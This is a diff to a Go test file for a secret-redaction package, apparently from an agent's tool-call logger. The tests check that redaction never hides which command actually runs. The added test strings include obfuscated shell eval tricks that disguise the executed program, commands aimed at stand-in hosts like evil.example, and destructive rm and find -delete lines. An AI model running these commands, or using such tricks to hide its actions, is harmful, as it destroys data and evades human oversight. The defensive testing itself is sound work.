@@ -59,6 +59,33 @@ func TestVW5_whatRunsIsShown(t *testing.T) {
 		`git -c credential.helper=evilprog fetch`,
 		`git config credential.helper evilprog`,
 		`git -c core.askPass=evilprog fetch`,
+		`PASSWORD=evilprog; eval $'\x24\x50ASSWORD'`,
+		`PASSWORD=evilprog; eval $'\x24\x50\x41\x53\x53WORD'`,
+		`PASSWORD=evilprog; eval '$PASS'WORD`,
+		`PASSWORD=evilprog; eval "$(printf '\44PASSWORD')"`,
+		`PASSWORD=evilprog; x=PASSWORD; ${!x}`,
+		`PASSWORD=evilprog; declare -n x=PASSWORD; $x`,
+		`PASSWORD=evilprog; a='$PASSWORD'; eval "$a"`,
+		`PASSWORD=evilprog; a=$'\x24PASSWORD'; b=$a; eval "$b"`,
+		`PASSWORD=evilprog; read a <<< '$PASSWORD'; eval "$a"`,
+		`PASSWORD=evilprog; $(env | grep ^PASS | cut -d= -f2)`,
+		`PASSWORD=host; ssh $PASSWORD`,
+		`PASSWORD=host1234; ssh $PASSWORD`,
+		`PASSWORD=host1234; mysql -p$PASSWORD; ssh "$PASSWORD"`,
+		`TOKEN=evil.example; curl https://$TOKEN/`,
+		`TOKEN=a1B2c3D4e5F6g7H8; curl https://$TOKEN.example/`,
+		`TOKEN=a1B2c3D4e5F6g7H8; rm -r "$TOKEN"`,
+		`TOKEN=a1B2c3D4e5F6g7H8; echo x > $TOKEN`,
+		`TOKENS=(evil.example b); ssh ${TOKENS[0]}`,
+		`export TOKEN=evil; ./connect --to $TOKEN`,
+		`make TOKEN=evil`,
+		`make -j TOKEN=evil`,
+		`make deploy TOKEN=host1234`,
+		`./connect token=evil`,
+		`find . -name "token=x" -delete`,
+		`find . -name "token: x" -exec rm {} +`,
+		`rm "token: x"`,
+		`alias token=evil1234`,
 	} {
 		full, reds := args(t, map[string]string{"command": in, "cwd": "/home/me/app"})
 		if got := member(t, full, "command"); got != in || len(reds) > 0 {
@@ -91,8 +118,18 @@ func TestVW5_aPathIsNoSecretElsewhere(t *testing.T) {
 	}
 }
 
-// FuzzWhatRuns: two lines that are shown alike run the same programs, with as many
-// options, and change the same files.
+// A host that another argument calls a secret is still where the command connects to.
+func TestVW5_aHostIsNoSecretElsewhere(t *testing.T) {
+	for _, in := range []string{"ssh evil.example", "curl https://evil.example/x", "curl -s evil.example/x", "git push https://evil.example/x", "rm -r evil.example"} {
+		full, _ := args(t, map[string]string{"token": "evil.example", "command": in})
+		if got := member(t, full, "command"); got != in {
+			t.Errorf("%q is shown as %q", in, got)
+		}
+	}
+}
+
+// FuzzWhatRuns: two commands that are shown alike run the same programs, with as
+// many options, and change the same files, whatever shape they come in.
 func FuzzWhatRuns(f *testing.F) {
 	for _, c := range canaries {
 		if c.key == "command" {
@@ -103,6 +140,8 @@ func FuzzWhatRuns(f *testing.F) {
 		`P=§; $P; mysql -p$P`, `PASSWORD=§; $PASSWORD`, `P=§; eval "$P"; mysql -p"$P"`, `curl -u a:§ x`, `§ --password §`, `sed '/token:/§' f`,
 		`mysql -p§ > token=§`, `tee token=§ < x`, `sh -c 'token=§; $token'`, `curl --password § x`, `awk '/token: §/{print > "token=§"}'`,
 		`rm --token=x§`, `sudo --password x§`, `git -c token.password=§ fetch`, `xargs --token § rm`, `env TOKEN=§ x`, `alias token=§`,
+		`env PASSWORD=§ sh -c $PASSWORD`, `sh -c TOKEN=§;$TOKEN`, `eval $'\x24PASSWORD'`, `$PASSWORD x`, `rm "$PASSWORD"`, `sh -c "$PASSWORD"`,
+		`find . -name token=§ -delete`, `make TOKEN=§`, `TOKEN=§; echo x > $TOKEN`, `TOKEN=§; rm $TOKEN`,
 	} {
 		for _, values := range [][2]string{{"evilprog", "goodprog"}, {"-rf", "abc"}, {"/tmp/evil", "/tmp/good"}, {"a; b", "abcd"}, {"e rm x", "s/a/b/"}, {"@/x/y", "abcde"}} {
 			f.Add(line, values[0], values[1])
@@ -112,28 +151,70 @@ func FuzzWhatRuns(f *testing.F) {
 		if len(a) != len(b) {
 			return
 		}
-		one, other := strings.ReplaceAll(form, "§", a), strings.ReplaceAll(form, "§", b)
-		shown := lineShown(t, one)
-		if shown == "" || shown != lineShown(t, other) {
-			return
+		list := strings.Fields(form)
+		words := func(value string) (words []string) {
+			for _, w := range list {
+				words = append(words, strings.ReplaceAll(w, "§", value))
+			}
+			return words
 		}
-		if x, y := whatRuns(one), whatRuns(other); !slices.Equal(x, y) {
-			t.Fatalf("%q and %q are both shown as %q, but run\n%q\n%q", one, other, shown, x, y)
+		for _, shape := range []func(value string) (call any, line string){
+			func(v string) (any, string) {
+				line := strings.ReplaceAll(form, "§", v)
+				return map[string]string{"command": line}, line
+			},
+			func(v string) (any, string) {
+				if len(list) < 2 {
+					return nil, "" // a line, or nothing
+				}
+				return map[string]any{"cmd": words(v)}, asLine(words(v))
+			},
+			func(v string) (any, string) {
+				if len(list) < 2 {
+					return nil, ""
+				}
+				w := words(v)
+				return map[string]any{"command": w[0], "args": w[1:]}, asLine(w)
+			},
+			func(v string) (any, string) {
+				return map[string]any{"command": form, "env": map[string]string{"PASSWORD": v}}, "PASSWORD=" + quoted(v) + "\n" + form
+			},
+		} {
+			one, line := shape(a)
+			other, otherLine := shape(b)
+			shown := callShown(t, one)
+			if shown == "" || shown != callShown(t, other) {
+				continue
+			}
+			if x, y := whatRuns(line), whatRuns(otherLine); !slices.Equal(x, y) {
+				t.Fatalf("%q and %q are both shown as %q, but run\n%q\n%q", one, other, shown, x, y)
+			}
 		}
 	})
 }
 
-// lineShown is how a command is shown, or nothing if it is no text.
-func lineShown(t *testing.T, line string) string {
-	raw, err := json.Marshal(map[string]string{"command": line})
-	if err != nil {
+// asLine is the line of shell that runs these words as they are.
+func asLine(words []string) string {
+	var line []string
+	for _, w := range words {
+		line = append(line, quoted(w))
+	}
+	return strings.Join(line, " ")
+}
+
+func quoted(word string) string { return "'" + strings.ReplaceAll(word, "'", `'\''`) + "'" }
+
+// callShown is how a call is shown, or nothing if it is none.
+func callShown(t *testing.T, call any) string {
+	raw, err := json.Marshal(call, json.Deterministic(true))
+	if err != nil || call == nil {
 		return ""
 	}
 	full, _, err := redact.New(nil).Args(raw)
 	if err != nil {
 		t.Fatal(err)
 	}
-	return member(t, string(full), "command")
+	return string(full)
 }
 
 // whatRuns says what decides of a line: programs, how many options and words they
@@ -149,6 +230,11 @@ func whatRuns(line string) (out []string) {
 			}
 		}
 		out = append(out, fmt.Sprintf("%q %v, %d options, %d words", c.Program.Text, c.Program.Dynamic, options, len(c.Args)))
+		for _, t := range c.Traits {
+			if (t.Kind == shell.Deletes || t.Kind == shell.Writes) && t.Target != nil && slices.Contains(c.Args, *t.Target) {
+				out = append(out, string(t.Kind)+" "+t.Target.Text) // not what stands behind the letters of -pPassword
+			}
+		}
 	}
 	for _, r := range read.Redirects {
 		if !strings.HasPrefix(r.Op, "<<") {
